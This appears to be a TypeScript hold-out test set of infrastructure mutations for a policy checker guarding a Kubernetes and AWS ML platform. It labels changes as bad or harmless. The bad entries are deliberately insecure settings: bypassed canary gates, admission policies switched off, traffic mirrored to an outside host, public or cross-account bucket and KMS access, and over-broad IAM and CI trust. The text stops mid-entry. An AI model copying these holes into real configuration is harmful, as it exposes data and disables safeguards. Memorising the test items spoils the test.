// biome-ignore-all lint: a hold-out set, written without sight of the rules.

import type { Layer } from "#stacks/contracts";
import {
  added,
  allowed,
  aws,
  configured,
  kubernetes,
  object,
  on,
  policy,
  type StackMutant,
  statement,
  welcome,
  without,
} from "./mutant.ts";

type Change = (i: any, o?: any) => void;
const ALL: StackMutant[] = [];
let kind = "";
const say = (what: string): string => `[${kind}] ${what}`;
const F: Layer = "foundation";
const P: Layer = "platform";
const W: Layer = "workloads";
const A = (layer: Layer, type: string, name: string) => ({
  bad: (what: string, change: Change) => void ALL.push(aws(layer, type, name).bad(say(what), change)),
  ok: (what: string, change: Change) => void ALL.push(aws(layer, type, name).harmless(say(what), change)),
  gone: (what: string) => void ALL.push(aws(layer, type, name).removed(say(what))),
});
const K = (layer: Layer, type: string, name: string) => ({
  bad: (what: string, change: Change) => void ALL.push(kubernetes(layer, type, name).bad(say(what), change)),
  ok: (what: string, change: Change) => void ALL.push(kubernetes(layer, type, name).harmless(say(what), change)),
  gone: (what: string) => void ALL.push(kubernetes(layer, type, name).removed(say(what))),
});
const addBad = (layer: Layer, type: string, what: string, inputs: any) =>
  void ALL.push(added(layer, `aws:${type}`, say(what), inputs));
const addOk = (layer: Layer, type: string, what: string, inputs: any) =>
  void ALL.push(welcome(layer, `aws:${type}`, say(what), inputs));
const objBad = (layer: Layer, apiVersion: string, k: string, what: string, rest: any) => {
  const { type, inputs } = object(apiVersion, k, rest);
  ALL.push(added(layer, type, say(what), inputs));
};
const objOk = (layer: Layer, apiVersion: string, k: string, what: string, rest: any) => {
  const { type, inputs } = object(apiVersion, k, rest);
  ALL.push(welcome(layer, type, say(what), inputs));
};
const swap = (s: string, from: string, to: string): string => {
  if (!s.includes(from)) throw new Error(`nothing to replace: ${from} in ${s}`);
  return s.replaceAll(from, to);
};
const doc = (...statements: any[]) => JSON.stringify({ Version: "2012-10-17", Statement: statements });

const ME = "333333333333";
const REGION = "eu-north-1";
const key = (id: string) => `arn:aws:kms:${REGION}:${ME}:key/${id}`;
const DATA_KEY = key("56113cde-5bd0-d2d9-d60e-47986d2e4d1d");
const LOGS_KEY = key("bd91887f-0224-3210-dccd-57a153e7c7d6");
const DB_KEY = key("f511eda5-2023-dcb8-0272-f2023daf8675");
const CLUSTER_KEY = key("7dd548f8-e56f-4977-5739-e7543cf7ae27");
const MODELS = "millrace-prod-models-0650b3f";
const DATA = "millrace-prod-data-c9eac55";
const PREDICTIONS = "millrace-prod-predictions-f4f526f";
const ARTIFACTS = "millrace-prod-artifacts-cf93925";
const LOGS = "millrace-prod-logs-a86573f";
const VPC = "vpc-bc11f169654805448";
const CLUSTER_SG = "sg-52bc65654a7b1ba58";
const DB_SG = "sg-b2efd8b25d69bb778";
const ENDPOINTS_SG = "sg-301b80c8c6ee1348a";
const BALANCER_SG = "sg-6fca69cb3ada032d6";
const PRIVATE = ["subnet-297716b45610acf7a", "subnet-0e7f5337072bb4cd4", "subnet-e1bfeaa639192b617"];
const INTRA = ["subnet-2ae8a3580ab48a36f", "subnet-12cc4f88d2bf68d39", "subnet-11b0d088f018e9147"];
const PUBLIC_A = "subnet-9cde0079ff966dc07";
const BOUNDARY = `arn:aws:iam::${ME}:policy/millrace-prod-roles`;
const POD_TRUST = doc({
  Sid: "PodsAssume",
  Effect: "Allow",
  Principal: { Service: "pods.eks.amazonaws.com" },
  Action: ["sts:AssumeRole", "sts:TagSession"],
});
const MLFLOW_IMAGE = `${ME}.dkr.ecr.${REGION}.amazonaws.com/millrace-prod/mlflow:v3.17.0-full@sha256:6d6c666c6f770000000000000000000000000000000000000000000000000000`;
const SERVER_IMAGE = `${ME}.dkr.ecr.${REGION}.amazonaws.com/millrace-prod/model-server@sha256:52fe594d443481d68b5ceabebf6238425c04e3a5386b54904a4e6b2e8bdbb112`;

const container = (more: any = {}) => ({
  name: "main",
  image: MLFLOW_IMAGE,
  resources: { requests: { cpu: "100m", memory: "128Mi" }, limits: { memory: "128Mi" } },
  securityContext: { allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: ["ALL"] } },
  ...more,
});
const podSpec = (more: any = {}, one: any = {}) => ({
  automountServiceAccountToken: false,
  enableServiceLinks: false,
  serviceAccountName: "mlflow",
  nodeSelector: { "millrace.dev/pool": "system" },
  tolerations: [{ key: "CriticalAddonsOnly", operator: "Exists", effect: "NoSchedule" }],
  priorityClassName: "millrace-platform",
  securityContext: {
    runAsNonRoot: true,
    runAsUser: 1000,
    runAsGroup: 1000,
    fsGroup: 1000,
    seccompProfile: { type: "RuntimeDefault" },
  },
  containers: [container(one)],
  ...more,
});
const probe = { httpGet: { path: "/health", port: 8080 }, periodSeconds: 10, timeoutSeconds: 2 };

// ---------------------------------------------------------------- releases
kind = "releases";
const rollout = K(W, "argoproj.io/v1alpha1:Rollout", "fraud-rollout");
const gate = K(W, "argoproj.io/v1alpha1:AnalysisTemplate", "fraud-gate");
const watch = K(W, "argoproj.io/v1alpha1:AnalysisTemplate", "fraud-watch");
const share = K(W, "argoproj.io/v1alpha1:AnalysisTemplate", "fraud-share");
const split = K(W, "networking.istio.io/v1:VirtualService", "fraud-split");
const root = K(W, "networking.istio.io/v1:VirtualService", "fraud-root");
const query = (i: any, n: number, to: (q: string) => string) => {
  const p = i.spec.metrics[n].provider.prometheus;
  p.query = to(p.query);
};
const canary = (i: any) => i.spec.strategy.canary;

rollout.bad("last gate measures the stable version", (i) => (canary(i).steps[16].analysis.args[0].value = "fraud-stable"));
rollout.bad("gate at 20% tolerates nine errors in ten", (i) =>
  canary(i).steps[9].analysis.args.push({ name: "maxErrorShare", value: "0.9" }),
);
rollout.bad(
  "gate at 20% is replaced by the share check, which any share passes",
  (i) => (canary(i).steps[9].analysis = { templates: [{ templateName: "fraud-share" }] }),
);
rollout.bad("the background watch begins at the last step", (i) => (canary(i).analysis.startingStep = 17));
rollout.bad("a pause of three seconds before the gate at 50%", (i) => (canary(i).steps[11].pause.duration = "3s"));
rollout.bad("the old version is gone a second after promotion", (i) => (canary(i).scaleDownDelaySeconds = 1));
rollout.bad("the stable version shrinks while the canary grows", (i) => (canary(i).dynamicStableScale = true));
rollout.bad("one canary pod serves 20 to 100% of the traffic", (i) => (canary(i).steps[6] = { setCanaryScale: { replicas: 1 } }));
rollout.bad(
  "the header route takes whoever sends a user agent",
  (i) => (canary(i).steps[2].setHeaderRoute.match = [{ headerName: "user-agent", headerValue: { regex: ".+" } }]),
);
rollout.bad("the canary's service is the stable one", (i) => (canary(i).canaryService = "fraud-stable"));
rollout.bad("manages a route that does not exist", (i) => (canary(i).trafficRouting.istio.virtualService.routes = ["main"]));
rollout.bad("jumps from 5% to 100% before the second gate", (i) => (canary(i).steps[7].setWeight = 100));
rollout.bad(
  "the watch refers to a cluster-wide template that is not in this repository",
  (i) => (canary(i).analysis.templates = [{ templateName: "always-green", clusterScope: true }]),
);
rollout.bad(
  "steps are replaced by a mirror and full weight",
  (i) =>
    (canary(i).steps = [
      { setMirrorRoute: { name: "force-canary", percentage: 100, match: [{ path: { prefix: "/" } }] } },
      { pause: { duration: "300s" } },
      { setWeight: 100 },
    ]),
);
rollout.bad("maxUnavailable as text lets all pods go at once", (i) => (canary(i).maxUnavailable = "100%"));
gate.bad("error share times zero", (i) => query(i, 0, (q) => `0 * (${q})`));
gate.bad("slow share is clamped below the limit", (i) => query(i, 1, (q) => `clamp_max(${q}, 0.01)`));
gate.bad(
  "no traffic counts as success",
  (i) => (i.spec.metrics[0].successCondition = "len(result) == 0 || result[0] <= {{args.maxErrorShare}}"),
);
gate.bad("dry run of all metrics", (i) => (i.spec.dryRun = [{ metricName: ".*" }]));
gate.bad("asks a Prometheus of the team itself", (i) => {
  for (const m of i.spec.metrics) m.provider.prometheus.address = "http://prometheus.team-risk.svc.cluster.local:9090";
});
gate.bad("measures 4xx instead of 5xx", (i) =>
  query(i, 0, (q) => swap(q, 'response_code_class="5xx"', 'response_code_class="4xx"')),
);
gate.bad("service is hard-wired to stable in the slow share", (i) =>
  query(i, 1, (q) => swap(q, "{{args.service}}", "fraud-stable")),
);
gate.bad("success compares the result with itself", (i) => (i.spec.metrics[1].successCondition = "result[0] <= result[0]"));
gate.bad("fifty failures are allowed, as text", (i) => (i.spec.metrics[0].failureLimit = "50"));
watch.bad("slow share counts what takes over five seconds", (i) =>
  query(i, 1, (q) => swap(q, '"200(\\\\.0)?"', '"5000(\\\\.0)?"')),
);
watch.bad("error share joins a constant first", (i) => query(i, 0, (q) => `vector(0) or (${q})`));
watch.bad("begins after six hours", (i) => {
  for (const m of i.spec.metrics) m.initialDelay = "6h";
});
watch.bad("looks every twelve hours", (i) => (i.spec.metrics[0].interval = "12h"));
watch.bad("measures yesterday", (i) => query(i, 0, (q) => swap(q, "[120s]", "[120s] offset 1d")));
watch.bad(
  "the slow share is a job that always succeeds",
  (i) =>
    (i.spec.metrics[1] = {
      name: "slow-share",
      provider: { web: { url: "https://example.com/ok", jsonPath: "{$.ok}" } },
      successCondition: "true",
    }),
);
share.bad("numerator is the stable version", (i) => query(i, 0, (q) => q.replace("fraud-canary", "fraud-stable")));
split.bad("a second route before the managed one sends beta users to the canary", (i) =>
  i.spec.http.unshift({
    name: "beta",
    match: [{ headers: { "x-beta": { exact: "1" } } }],
    route: [{ destination: { host: "fraud-canary.models-risk.svc.cluster.local", port: { number: 80 } } }],
  }),
);
split.bad(
  "mirrors to a debug service of the team",
  (i) => (i.spec.http[0].mirror = { host: "fraud-debug.team-risk.svc.cluster.local", port: { number: 80 } }),
);
split.bad(
  "mirrors to several",
  (i) => (i.spec.http[0].mirrors = [{ destination: { host: "collector.example.net" }, percentage: { value: 10 } }]),
);
split.bad(
  "aborts a tenth of a percent with 503",
  (i) => (i.spec.http[0].fault = { abort: { percentage: { value: 0.1 }, httpStatus: 503 } }),
);
split.bad("a third destination gets traffic", (i) =>
  i.spec.http[0].route.push({
    destination: { host: "fraud-shadow.models-risk.svc.cluster.local", port: { number: 80 } },
    weight: 5,
  }),
);
root.bad("/v2 goes straight to the canary", (i) =>
  i.spec.http.unshift({
    name: "v2",
    match: [{ uri: { prefix: "/v2" } }],
    route: [{ destination: { host: "fraud-canary.models-risk.svc.cluster.local", port: { number: 80 } } }],
  }),
);
root.bad(
  "delays a part of the requests",
  (i) => (i.spec.http[0].fault = { delay: { percentage: { value: 1 }, fixedDelay: "3s" } }),
);
root.bad("delegates to a route of another namespace", (i) => (i.spec.http[0].delegate.namespace = "team-risk"));
K(W, "core/v1:Service", "fraud-canary").bad("canary selects the previous version", (i) => (i.spec.selector.version = "v2"));
K(W, "core/v1:Service", "fraud-canary").bad("canary is an alias of stable", (i) => {
  i.spec.type = "ExternalName";
  i.spec.externalName = "fraud-stable.models-risk.svc.cluster.local";
});
objBad(W, "networking.istio.io/v1", "VirtualService", "a second VirtualService of the model's host", {
  metadata: { name: "fraud-direct", namespace: "models-risk" },
  spec: {
    gateways: ["istio-ingress/ingress"],
    hosts: ["fraud.models.internal"],
    http: [
      {
        match: [{ uri: { prefix: "/direct" } }],
        route: [{ destination: { host: "fraud-canary.models-risk.svc.cluster.local", port: { number: 80 } } }],
      },
    ],
  },
});
objBad(W, "networking.istio.io/v1alpha3", "EnvoyFilter", "a filter sets the weights of the model's route", {
  metadata: { name: "fraud-weights", namespace: "istio-ingress" },
  spec: {
    workloadSelector: { labels: { istio: "ingress" } },
    configPatches: [
      {
        applyTo: "HTTP_ROUTE",
        match: { context: "GATEWAY", routeConfiguration: { vhost: { route: { name: "models-risk-fraud-primary" } } } },
        patch: {
          operation: "MERGE",
          value: {
            route: {
              weighted_clusters: { clusters: [{ name: "outbound|80||fraud-canary.models-risk.svc.cluster.local", weight: 100 }] },
            },
          },
        },
      },
    ],
  },
});
objBad(W, "networking.istio.io/v1", "DestinationRule", "plain text to the canary, on its port only", {
  metadata: { name: "fraud-canary", namespace: "models-risk" },
  spec: {
    host: "fraud-canary.models-risk.svc.cluster.local",
    trafficPolicy: { portLevelSettings: [{ port: { number: 80 }, tls: { mode: "DISABLE" } }] },
  },
});

rollout.ok("pauses are written in minutes", (i) => {
  for (const s of canary(i).steps) if (s.pause?.duration === "300s") s.pause.duration = "5m";
});
rollout.ok("longer pause before the last gate", (i) => (canary(i).steps[15].pause.duration = "3600s"));
rollout.ok("one more weight with its pause and gate", (i) =>
  canary(i).steps.splice(
    10,
    0,
    { setWeight: 35 },
    { pause: { duration: "300s" } },
    { analysis: { templates: [{ templateName: "fraud-gate" }], args: [{ name: "service", value: "fraud-canary" }] } },
  ),
);
rollout.ok("a stricter error limit at 50%", (i) =>
  canary(i).steps[12].analysis.args.push({ name: "maxErrorShare", value: "0.005" }),
);
rollout.ok("a longer return", (i) => (canary(i).scaleDownDelaySeconds = 1800));
rollout.ok("two pods of surge", (i) => (canary(i).maxSurge = 2));
rollout.ok("a label and an annotation of the team", (i) => {
  i.spec.template.metadata.labels.team = "risk";
  i.spec.template.metadata.annotations = { "example.com/contact": "risk@example.com" };
});
rollout.ok("pause durations as numbers", (i) => {
  for (const s of canary(i).steps) if (s.pause) s.pause.duration = Number.parseInt(s.pause.duration, 10);
});
rollout.ok("keeps three old revisions", (i) => (i.spec.revisionHistoryLimit = 3));
gate.ok("the query with more spaces", (i) => query(i, 0, (q) => q.replaceAll(" / ", "  /  ")));
gate.ok("asks every 20 seconds", (i) => {
  for (const m of i.spec.metrics) m.interval = "20s";
});
gate.ok("stricter default of the error share", (i) => (i.spec.args[1].value = "0.005"));
gate.ok("longer time to answer for Prometheus", (i) => {
  for (const m of i.spec.metrics) m.provider.prometheus.timeout = 10;
});
watch.ok("stricter error share in both conditions", (i) => {
  const m = i.spec.metrics[0];
  m.failureCondition = swap(m.failureCondition, "0.01", "0.005");
  m.successCondition = swap(m.successCondition, "0.01", "0.005");
});
watch.ok("a third metric: share of gateway resets of the canary", (i) =>
  i.spec.metrics.push({
    ...structuredClone(i.spec.metrics[0]),
    name: "timeouts",
    provider: {
      prometheus: {
        address: i.spec.metrics[0].provider.prometheus.address,
        timeout: 5,
        query:
          '(sum(increase(envoy_cluster_upstream_rq_timeout{cluster_name="outbound|80||fraud-canary.models-risk.svc.cluster.local"}[120s])) or on() vector(0)) / (sum(increase(envoy_cluster_upstream_rq{cluster_name="outbound|80||fraud-canary.models-risk.svc.cluster.local",response_code_class!=""}[120s])) >= 100)',
      },
    },
  }),
);
root.ok("a shorter timeout", (i) => {
  i.spec.http[0].timeout = "8s";
  i.spec.http[0].retries.perTryTimeout = "8s";
});
root.ok("one retry instead of two", (i) => (i.spec.http[0].retries.attempts = 1));
K(W, "core/v1:Service", "fraud-stable").ok(
  "a label of the team",
  (i) => (i.metadata.labels = { "app.kubernetes.io/part-of": "risk" }),
);

// ---------------------------------------------------------------- admission
kind = "admission";
const VAP = "admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy";
const VAPB = "admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBinding";
const guard = (id: string) => K(P, VAP, `guardrails-millrace-${id}`);
const bind = (id: string) => K(P, VAPB, `guardrails-millrace-${id}-binding`);
bind("k8s-02").bad("warns and audits instead of denying", (i) => (i.spec.validationActions = ["Warn", "Audit"]));
bind("img-01").bad(
  "binding leaves a team's namespace out",
  (i) =>
    (i.spec.matchResources = {
      namespaceSelector: { matchExpressions: [{ key: "kubernetes.io/metadata.name", operator: "NotIn", values: ["team-risk"] }] },
    }),
);
bind("sec-02").bad(
  "binding skips objects with a label",
  (i) =>
    (i.spec.matchResources = { objectSelector: { matchExpressions: [{ key: "skip-guardrails", operator: "DoesNotExist" }] } }),
);
bind("k8s-03").bad("binding of another policy, so this one is not enforced", (i) => (i.spec.policyName = "millrace-k8s-06"));
bind("k8s-06").bad(
  "binding excludes pods",
  (i) =>
    (i.spec.matchResources = {
      excludeResourceRules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["*"], resources: ["pods"] }],
    }),
);
guard("k8s-02").bad("an annotation switches it off", (i) =>
  i.spec.matchConditions.push({
    name: "no-break-glass",
    expression: "!has(object.metadata.annotations) || !('break-glass' in object.metadata.annotations)",
  }),
);
guard("k8s-06").bad("does not look at one service account", (i) =>
  i.spec.matchConditions.push({
    name: "not-jobs",
    expression: "request.userInfo.username != 'system:serviceaccount:team-risk:jobs'",
  }),
);
guard("k8s-03").bad(
  "or true at the end",
  (i) => (i.spec.validations[0].expression = `(${i.spec.validations[0].expression}) || true`),
);
guard("img-01").bad("init containers are forgotten", (i) => (i.spec.variables[1].expression = "object.spec.containers"));
guard("sec-02").bad("looks at updates only", (i) => (i.spec.matchConstraints.resourceRules[0].operations = ["UPDATE"]));
guard("mesh-01").bad("a failure of the policy lets pass", (i) => (i.spec.failurePolicy = "Ignore"));
guard("k8s-01").bad(
  "one more namespace by name may be privileged",
  (i) =>
    (i.spec.validations[0].expression = swap(i.spec.validations[0].expression, "'gpu-operator'", "'gpu-operator', 'team-risk'")),
);
guard("k8s-02").bad(
  "ephemeral containers are not looked at any more",
  (i) => (i.spec.matchConstraints.resourceRules[0].resources = ["pods"]),
);
guard("mesh-03").bad(
  "only one old version of the API",
  (i) => (i.spec.matchConstraints.resourceRules[0].apiVersions = ["v1alpha3"]),
);
guard("img-02").bad("excludes namespaces by the label of teams", (i) =>
  i.spec.matchConstraints.namespaceSelector.matchExpressions.push({ key: "millrace.dev/team", operator: "DoesNotExist" }),
);
K(P, VAP, "queues-guard-jobs").bad("the first validation is gone", (i) => i.spec.validations.shift());
K(P, VAP, "queues-guard-pods").bad(
  "matches no namespace",
  (i) => (i.spec.matchConstraints.namespaceSelector = { matchLabels: { "millrace.dev/team": "none" } }),
);
K(W, "core/v1:Namespace", "risk-jobs").bad(
  "the team's namespace says that a chart fills it",
  (i) => (i.metadata.labels["millrace.dev/filled-by"] = "chart"),
);
K(W, "core/v1:Namespace", "risk-models").bad(
  "enforces the restricted profile of an old version",
  (i) => (i.metadata.labels["pod-security.kubernetes.io/enforce-version"] = "v1.18"),
);
K(W, "core/v1:Namespace", "risk-jobs").bad(
  "loses the label by which queues and guards see it",
  (i) => delete i.metadata.labels["millrace.dev/team"],
);
K(P, VAPB, "queues-guard-jobs-binding").gone("the binding of the guard of jobs is gone");
objBad(
  P,
  "admissionregistration.k8s.io/v1",
  "MutatingWebhookConfiguration",
  "a webhook outside of the cluster changes all pods",
  {
    metadata: { name: "sidecars" },
    webhooks: [
      {
        name: "pods.sidecars.example.net",
        clientConfig: { url: "https://sidecars.example.net/mutate" },
        rules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"] }],
        failurePolicy: "Ignore",
        sideEffects: "None",
        admissionReviewVersions: ["v1"],
      },
    ],
  },
);
objBad(W, "v1", "Namespace", "a namespace that only warns", {
  metadata: {
    name: "team-growth",
    labels: { "pod-security.kubernetes.io/warn": "restricted", "pod-security.kubernetes.io/audit": "restricted" },
  },
});
guard("k8s-02").ok("one more thing is forbidden", (i) =>
  i.spec.validations.push({
    expression: "!has(object.spec.shareProcessNamespace) || !object.spec.shareProcessNamespace",
    message: "a pod must not share its processes among containers",
  }),
);
guard("img-01").ok("the policy says how it matches", (i) => (i.spec.matchConstraints.matchPolicy = "Equivalent"));
guard("k8s-03").ok("operations in the other order", (i) => i.spec.matchConstraints.resourceRules[0].operations.reverse());
guard("sec-02").ok(
  "an audit annotation",
  (i) => (i.spec.auditAnnotations = [{ key: "who", valueExpression: "request.userInfo.username" }]),
);
bind("k8s-02").ok("denies and audits", (i) => (i.spec.validationActions = ["Deny", "Audit"]));
bind("img-01").ok("says that it matches all namespaces", (i) => (i.spec.matchResources = { namespaceSelector: {} }));
guard("mesh-01").ok(
  "a clearer message",
  (i) =>
    (i.spec.validations[0].message = "MESH-01: a PeerAuthentication must say STRICT, not PERMISSIVE or DISABLE (AISF-INFRA-06)"),
);
K(W, "core/v1:Namespace", "risk-jobs").ok("audits as well, and pins the latest version", (i) =>
  Object.assign(i.metadata.labels, {
    "pod-security.kubernetes.io/audit": "restricted",
    "pod-security.kubernetes.io/enforce-version": "latest",
  }),
);

// ---------------------------------------------------------------- AWS policies
kind = "aws-policies";
const bucketPolicy = (name: string) => A(F, "s3/bucketPolicy:BucketPolicy", `${name}-policy`);
const kms = (name: string) => A(F, "kms/key:Key", `${name}-key`);
const inline = (layer: Layer, name: string) => A(layer, "iam/rolePolicy:RolePolicy", name);
const role = (layer: Layer, name: string) => A(layer, "iam/role:Role", name);
const managed = (name: string) => A(F, "iam/policy:Policy", name);
const T = "assumeRolePolicy";
bucketPolicy("data").bad(
  "anyone whose ARN matches a star reads",
  allowed({
    Principal: { AWS: "*" },
    Action: ["s3:GetObject"],
    Resource: [`arn:aws:s3:::${DATA}/*`],
    Condition: { StringLike: { "aws:PrincipalArn": "*" } },
  }),
);
bucketPolicy("models").bad(
  "anyone reads, over TLS",
  allowed({
    Principal: "*",
    Action: "s3:GetObject",
    Resource: `arn:aws:s3:::${MODELS}/*`,
    Condition: { Bool: { "aws:SecureTransport": "true" } },
  }),
);
bucketPolicy("artifacts").bad(
  "a foreign account writes",
  allowed({
    Principal: { AWS: ["arn:aws:iam::999999999999:root"] },
    Action: ["s3:PutObject", "s3:GetObject"],
    Resource: [`arn:aws:s3:::${ARTIFACTS}/*`],
  }),
);
bucketPolicy("predictions").bad(
  "all addresses, in two halves",
  allowed({
    Principal: "*",
    Action: ["s3:GetObject"],
    Resource: [`arn:aws:s3:::${PREDICTIONS}/*`],
    Condition: { IpAddress: { "aws:SourceIp": ["0.0.0.0/1", "128.0.0.0/1"] } },
  }),
);
bucketPolicy("predictions").bad(
  "the denial of plain HTTP covers the bucket but not its objects",
  statement("TlsOnly", (s) => (s.Resource = [`arn:aws:s3:::${PREDICTIONS}`])),
);
bucketPolicy("data").bad(
  "the denial of other keys holds for nobody",
  statement("OneKeyOnly", (s) => (s.Condition.StringNotLike = { "aws:PrincipalArn": "*" })),
);
bucketPolicy("models").bad(
  "the denial of old TLS has a condition more",
  statement("ModernTlsOnly", (s) => (s.Condition.StringEquals = { "aws:PrincipalAccount": "000000000000" })),
);
bucketPolicy("logs").bad(
  "any account's S3 delivers logs",
  statement("AccessLogs", (s) => (s.Condition = { ArnLike: { "aws:SourceArn": "arn:aws:s3:::*" } })),
);
bucketPolicy("artifacts").bad(
  "everyone but one may read: NotPrincipal",
  allowed({
    NotPrincipal: { AWS: `arn:aws:iam::${ME}:user/nobody` },
    Action: "s3:GetObject",
    Resource: `arn:aws:s3:::${ARTIFACTS}/*`,
  }),
);
kms("data").bad(
  "anyone decrypts through any service",
  allowed({
    Principal: { AWS: "*" },
    Action: "kms:Decrypt",
    Resource: "*",
    Condition: { StringLike: { "kms:ViaService": "*.amazonaws.com" } },
  }),
);
kms("data").bad(
  "all values of a key that is missing",
  allowed({
    Principal: "*",
    Action: ["kms:Decrypt"],
    Resource: "*",
    Condition: { "ForAllValues:StringEquals": { "aws:PrincipalOrgPaths": ["o-abc/r-ab12/ou-ab12-1"] } },
  }),
);
kms("database").bad(
  "a foreign account decrypts",
  allowed({ Principal: { AWS: "444444444444" }, Action: ["kms:Decrypt", "kms:DescribeKey"], Resource: "*" }),
);
kms("logs").bad(
  "log groups of every account",
  statement(
    "CloudWatchLogs",
    (s) => (s.Condition.ArnLike["kms:EncryptionContext:aws:logs:arn"] = "arn:aws:logs:*:*:log-group:*"),
  ),
);
kms("cluster").bad(
  "not only the role of autoscaling",
  statement("NodeVolumes", (s) => (s.Condition = { StringLike: { "aws:PrincipalArn": "arn:aws:iam::*:role/*" } })),
);
kms("data").bad(
  "the account may do everything and nothing is kept apart, by kms:*Key*",
  allowed({
    Principal: { AWS: "*" },
    Action: ["kms:*Key*"],
    Resource: "*",
    Condition: { StringNotEquals: { "kms:CallerAccount": "111111111111" } },
  }),
);
A(P, "sqs/queuePolicy:QueuePolicy", "karpenter-interruptions-policy").bad(
  "rules of every account send",
  statement("RulesSend", (s) => (s.Condition = { ArnLike: { "aws:SourceArn": "arn:aws:events:*:*:rule/*" } })),
);
role(F, "ci-deploy").bad(
  "every repository of the organisation deploys",
  statement(
    "GitHubActions",
    (s) =>
      (s.Condition = {
        StringEquals: { "token.actions.githubusercontent.com:aud": "sts.amazonaws.com" },
        StringLike: { "token.actions.githubusercontent.com:sub": "repo:example/*:environment:prod" },
      }),
    T,
  ),
);
role(F, "ci-plan").bad(
  "repositories whose names begin alike",
  statement(
    "GitHubActions",
    (s) =>
      (s.Condition = {
        StringEquals: { "token.actions.githubusercontent.com:aud": "sts.amazonaws.com" },
        StringLike: { "token.actions.githubusercontent.com:sub": "repo:example/millrace*:ref:refs/heads/main" },
      }),
    T,
  ),
);
role(F, "publishers-images").bad(
  "the environment of any repository",
  statement(
    "GitHubActions",
    (s) => {
      delete s.Condition.StringEquals["token.actions.githubusercontent.com:sub"];
      s.Condition["ForAnyValue:StringLike"] = { "token.actions.githubusercontent.com:sub": ["*:environment:prod-images"] };
    },
    T,
  ),
);
role(F, "publishers-models").bad(
  "conditions only if the claims exist",
  statement(
    "GitHubActions",
    (s) => {
      s.Condition = { StringEqualsIfExists: s.Condition.StringEquals };
    },
    T,
  ),
);
role(F, "ci-deploy").bad(
  "pull requests deploy",
  statement(
    "GitHubActions",
    (s) => s.Condition.StringEquals["token.actions.githubusercontent.com:sub"].push("repo:example/millrace:pull_request"),
    T,
  ),
);
role(W, "fraud-reader").bad(
  "the whole account assumes it",
  statement("PodsAssume", (s) => (s.Principal.AWS = `arn:aws:iam::${ME}:root`), T),
);
role(W, "risk-identity-role").bad(
  "roles of a name in any account assume it",
  allowed(
    {
      Principal: { AWS: "*" },
      Action: "sts:AssumeRole",
      Condition: { ArnLike: { "aws:PrincipalArn": "arn:aws:iam::*:role/risk-*" } },
    },
    T,
  ),
);
role(P, "tracking-role").bad(
  "the boundary is the one that bounds nothing",
  (i) => (i.permissionsBoundary = "arn:aws:iam::aws:policy/AdministratorAccess"),
);
inline(W, "risk-identity-role-permissions").bad(
  "reads all buckets of the platform by a star",
  statement("ReadData", (s) => (s.Resource = ["arn:aws:s3:::millrace-prod-*/*"])),
);
inline(W, "risk-identity-role-permissions").bad(
  "reads the data of all teams, wildcard inside",
  statement("ReadData", (s) => s.Resource.push(`arn:aws:s3:::${DATA}/raw/*/*`)),
);
inline(W, "fraud-reader-permissions").bad(
  "writes and deletes its own model by s3:*Object",
  statement("ReadVersions", (s) => (s.Action = ["s3:*Object"])),
);
inline(P, "external-secrets-role-permissions").bad(
  "everything but iam, by NotAction",
  allowed({ Sid: "Rest", NotAction: ["iam:*", "organizations:*"], Resource: ["*"] }),
);
inline(P, "external-secrets-role-permissions").bad(
  "reads every secret",
  statement("ReadNamedSecrets", (s) => (s.Resource = [`arn:aws:secretsmanager:${REGION}:${ME}:secret:*`])),
);
inline(P, "tracking-role-permissions").bad(
  "the key through any service, every key",
  statement("UseKeyThroughS3", (s) => {
    s.Resource = [`arn:aws:kms:*:${ME}:key/*`];
    s.Condition = { StringLike: { "kms:ViaService": "*" } };
  }),
);
inline(F, "ci-runner-role-permissions").bad(
  "passes any role, spelt with a wildcard",
  allowed({ Sid: "Pass", Action: ["iam:Pass*"], Resource: ["*"] }),
);
inline(F, "ci-runner-role-permissions").bad(
  "assumes any role",
  allowed({ Sid: "Hop", Action: "sts:Assume*", Resource: `arn:aws:iam::${ME}:role/*` }),
);
inline(P, "karpenter-controller-permissions").bad(
  "terminates instances without marks",
  allowed({ Sid: "Tidy", Action: ["ec2:Terminate*"], Resource: "*" }),
);
inline(W, "risk-identity-role-permissions").bad(
  "lists whatever it likes",
  statement("ListData", (s) => (s.Condition = { StringLike: { "s3:prefix": ["*"] } })),
);
managed("role-boundary").bad(
  "everything in the region",
  allowed({ Sid: "More", Action: "*", Resource: "*", Condition: { StringEquals: { "aws:RequestedRegion": REGION } } }),
);
managed("ci-boundary").bad(
  "makes users and their keys",
  allowed({ Sid: "Users", Action: ["iam:CreateUser", "iam:CreateAccessKey", "iam:AttachUserPolicy"], Resource: ["*"] }),
);
managed("ci-deploy-identities").bad(
  "roles without a boundary: condition if it exists",
  statement("ManageBoundedRoles", (s) => (s.Condition = { StringEqualsIfExists: s.Condition.StringEquals })),
);
managed("ci-deploy-identities").bad(
  "attaches any policy of AWS",
  statement("AttachServicePolicies", (s) => s.Condition.ArnLike["iam:PolicyARN"].push("arn:aws:iam::aws:policy/*")),
);
managed("publishers-images-policy").bad(
  "pushes to every repository",
  statement("Push", (s) => (s.Resource = [`arn:aws:ecr:${REGION}:${ME}:repository/*`])),
);
managed("publishers-models-policy").bad(
  "deletes versions of models",
  statement("PutModels", (s) => s.Action.push("s3:DeleteObjectVersion", "s3:BypassGovernanceRetention")),
);
managed("ci-plan-read").bad(
  "reads secrets in the plan role",
  allowed({ Sid: "Peek", Action: ["secretsmanager:Get*", "ssm:GetParameter*"], Resource: ["*"] }),
);
A(F, "ec2/vpcEndpoint:VpcEndpoint", "network-s3").bad(
  "buckets of every account: data can leave",
  statement("OurBuckets", (s) => delete s.Condition.StringEquals["aws:ResourceAccount"]),
);
addBad(F, "ecr/repositoryPolicy:RepositoryPolicy", "any organisation pulls", {
  repository: "millrace-prod/model-server",
  policy: doc({
    Effect: "Allow",
    Principal: "*",
    Action: ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"],
    Condition: { StringLike: { "aws:PrincipalOrgID": "o-*" } },
  }),
});
addBad(F, "secretsmanager/secretPolicy:SecretPolicy", "a secret for whoever is somebody", {
  secretArn: `arn:aws:secretsmanager:${REGION}:${ME}:secret:token-AbCdEf`,
  policy: doc({
    Effect: "Allow",
    Principal: { AWS: "*" },
    Action: "secretsmanager:GetSecretValue",
    Resource: "*",
